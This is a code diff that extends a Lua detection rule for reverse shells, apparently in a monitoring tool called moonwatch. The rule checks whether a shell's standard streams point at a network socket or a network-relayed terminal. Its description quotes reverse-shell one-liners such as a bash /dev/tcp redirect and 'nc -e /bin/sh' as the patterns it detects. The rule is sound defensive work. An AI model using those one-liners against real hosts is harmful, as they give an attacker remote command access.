@@ -1,9 +1,112 @@
--- Standard input and output duplicated onto a network socket, then a shell executed.
-local SHELLS = mw.set{ "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish", "csh", "tcsh", "pwsh" }
+local from_stdio
+
+-- A program started with its standard streams on a network connection (a reverse or bind shell),
+-- or a shell on a terminal that a network-connected parent relays.
+local SHELLS = mw.set{ "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "busybox", "fish", "csh", "tcsh", "pwsh",
+                       "rbash", "yash", "posh", "elvish", "nu", "xonsh" }
 local function new_proc() return { socks = {}, std = {} } end
+
+-- Identities (device:inode) of the shells installed here, and of the programs whose children
+-- legitimately get a network-relayed terminal or a connection as stdio. A name is set with one
+-- prctl and a path faked with a copy or a bind mount; the identity is the file itself.
+local function identities(paths)
+  local out = {}
+  for _, p in ipairs(paths) do
+    local id = mw.identity(p)
+    if id then out[id.dev .. ":" .. id.ino] = p end
+  end
+  return out
+end
+local SHELL_IDS = identities{ "/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ksh", "/bin/mksh", "/bin/busybox",
+                              "/usr/bin/bash", "/usr/bin/dash", "/usr/bin/zsh", "/usr/bin/ksh", "/usr/bin/fish",
+                              "/usr/bin/tcsh", "/usr/bin/csh", "/usr/bin/busybox", "/usr/bin/pwsh" }
+local TRUSTED_IDS = identities{ "/usr/sbin/sshd", "/usr/bin/sshd", "/usr/sbin/in.telnetd", "/usr/sbin/telnetd",
+                                "/usr/sbin/xinetd", "/usr/sbin/inetd", "/usr/sbin/dropbear", "/usr/lib/openssh/sshd-session",
+                                "/usr/lib/openssh/sshd-auth", "/usr/sbin/mosh-server", "/usr/bin/mosh-server" }
+
+local function id_of(dev, ino)
+  if not ino or ino == 0 then return nil end
+  return tostring(dev) .. ":" .. tostring(ino)
+end
+
+-- Is the program a shell: its name (path, argv[0], the executed file) or its identity.
+local function shell_name(event)
+  local a, prog = event.args, event.args.program
+  local names = { a.pathname or event.process.exe, type(a.argv) == "table" and a.argv[1] or false,
+                  type(prog) == "table" and prog.path or false }
+  for i = 1, 3 do
+    local n = names[i]
+    if type(n) == "string" then
+      local b = mw.basename(n) or ""
+      b = b:gsub("^%-", "")   -- a login shell's argv[0] is "-bash"
+      if SHELLS[b] then return n end
+    end
+  end
+  if type(prog) == "table" and SHELL_IDS[id_of(prog.dev, prog.ino) or ""] then return prog.path end
+  return nil
+end
+
+-- The remote end of a stdio entry that is a connected inet socket, else nil.
+local function stdio_remote(s)
+  local k = type(s) == "table" and s.socket or nil
+  if type(k) ~= "table" or (k.family ~= "AF_INET" and k.family ~= "AF_INET6") then return nil end
+  if type(k.remote) ~= "table" then return nil end
+  return { family = k.family, addr = k.remote.addr, port = k.remote.port }
+end
+
+local function is_tty(s)
+  return type(s) == "table" and type(s.path) == "string" and s.path:find("^/dev/pts/") ~= nil
+end
 
 local function is_inet(addr)
   return type(addr) == "table" and (addr.family == "AF_INET" or addr.family == "AF_INET6")
+end
+
+-- The process itself, or its parent or grandparent (trusted ones stop the walk): who holds a
+-- network connection, from the connect/accept records. Returns the record and its pid.
+local function relay_of(event, procs)
+  local pid = event.process.pid
+  local chain = { { pid = pid } }
+  for _, a in ipairs(mw.ancestors(pid, 2)) do chain[#chain + 1] = a end
+  for _, p in ipairs(chain) do
+    if p.exe_ino and TRUSTED_IDS[id_of(p.exe_dev, p.exe_ino) or ""] then return nil end
+    local r = procs:get(p.pid)
+    if r and r.net then return r.net, p end
+  end
+  return nil
+end
+
+from_stdio = function(event, stdio, procs)
+  local a = event.args
+  local prog = type(a.program) == "table" and a.program or {}
+  if TRUSTED_IDS[id_of(prog.dev, prog.ino) or ""] then return end
+  local rin, rout = stdio_remote(stdio[1]), stdio_remote(stdio[2])
+  local path = prog.path or a.pathname or event.process.exe or "?"
+  if rin and rout then
+    local shell = shell_name(event)
+    report{
+      message = string.format("%s executed %s%s with stdin/stdout on a socket to %s:%s", mw.who(event), path,
+                              shell and "" or " (not a known shell)", tostring(rout.addr), tostring(rout.port)),
+      data = { shell = shell or path, program = a.program, argv = a.argv, remote = rout,
+               stderr_on_socket = stdio_remote(stdio[3]) ~= nil, pid = event.process.pid, ppid = event.process.ppid,
+               uid = event.process.uid, comm = event.process.comm },
+    }
+    return
+  end
+  if is_tty(stdio[1]) and is_tty(stdio[2]) then
+    local shell = shell_name(event)
+    if not shell then return end
+    local net, holder = relay_of(event, procs)
+    if not net then return end
+    report{
+      severity = "medium",
+      message = string.format("%s executed %s on a terminal relayed by pid %d, which holds a connection to %s:%s",
+                              mw.who(event), path, holder.pid, tostring(net.addr), tostring(net.port)),
+      data = { shell = shell, program = a.program, argv = a.argv, tty = stdio[1].path, relay_pid = holder.pid,
+               relay_comm = holder.comm, remote = net, pid = event.process.pid, ppid = event.process.ppid,
+               uid = event.process.uid, comm = event.process.comm },
+    }
+  end
 end
 
 return {
@@ -11,14 +114,18 @@ return {
   version = "1.0.0",
   name = "Reverse shell: standard streams on a network socket",
   description = [[
-A process pointed at least stdin and stdout at a TCP/UDP socket (dup/dup2/dup3 of a socket it
-created with socket+connect or got from accept) and then executed a shell: the shape of
-`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, and the Python/Perl one-liners. The
-socket's remote address comes from connect or accept. Descriptor state follows fork, so a
-parent that redirects and a child that execs are tied together. Limits: descriptors duplicated
-with fcntl(F_DUPFD) or inherited from before moonwatch started are not tracked. Known false
-positives: inetd/xinetd-style services that run a shell with the connection as stdio (rare and
-worth reviewing anyway).]],
+A program was started with stdin and stdout on a connected TCP/UDP socket: the shape of
+`bash -i >& /dev/tcp/HOST/PORT 0>&1`, `nc -e /bin/sh`, socat, and the Python/Perl one-liners,
+whatever the program is called (a renamed copy of a shell is still a program on a socket).
+Live, what descriptors 0-2 refer to is resolved in the kernel at exec (event.args.stdio), so
+no bookkeeping can be lost: F_DUPFD, descriptors received over SCM_RIGHTS, accept without an
+address, bash's saved copies around /dev/tcp all end in the same place. A shell (by name,
+argv[0], the executed file, or the identity of an installed shell) whose stdin is a terminal
+while its parent or grandparent holds a network connection is a pty relay (socat pty,
+python pty.spawn behind a socket): medium. Replayed events without stdio fall back to following
+socket, connect/accept and dup calls. Trusted by identity, not name: sshd, telnetd, inetd,
+dropbear, mosh. Known false positives: other inetd-style services that run a program with the
+connection as stdio (review them; allow-list by identity).]],
   severity = "high",
   tags = { "process", "network", "execution", "reverse-shell" },
   mitre = { tactic = "execution", technique = "T1059.004" },
@@ -37,8 +144,13 @@ worth reviewing anyway).]],
     elseif name == "connect" then
       local p = procs:get(pid)
       if p and p.socks[a.sockfd] and is_inet(a.addr) then p.socks[a.sockfd].remote = a.addr end
+      if is_inet(a.addr) then procs:get(pid, new_proc).net = a.addr end
     elseif name == "accept" or name == "accept4" then
-      if is_inet(a.addr) then procs:get(pid, new_proc).socks[event.ret] = { remote = a.addr } end
+      if is_inet(a.addr) then
+        local p = procs:get(pid, new_proc)
+        p.socks[event.ret] = { remote = a.addr }
+        p.net = a.addr
+      end
     elseif name == "dup" or name == "dup2" or name == "dup3" then
       local p = procs:get(pid)
       if not p then return end
@@ -47,13 +159,15 @@ worth reviewing anyway).]],
       if newfd >= 0 and newfd <= 2 then p.std[newfd] = (s and s.remote) and s or nil end
       if s then p.socks[newfd] = s end
     elseif name == "execve" or name == "execveat" then
+      if event.ret ~= 0 then return end
+      local stdio = a.stdio
+      if type(stdio) == "table" then return from_stdio(event, stdio, procs) end
       local p = procs:get(pid)
-      if not p or event.ret ~= 0 then return end
+      if not p then return end
       local sin, sout = p.std[0], p.std[1]
       if not (sin and sout) then return end
       local path = a.pathname or event.process.exe or ""
-      local base = mw.basename(path) or ""
-      if not SHELLS[base] then return end
+      if not shell_name(event) then return end
       local r = sout.remote
       report{
         message = string.format("%s executed %s with stdin/stdout on a socket to %s:%s", mw.who(event), path,
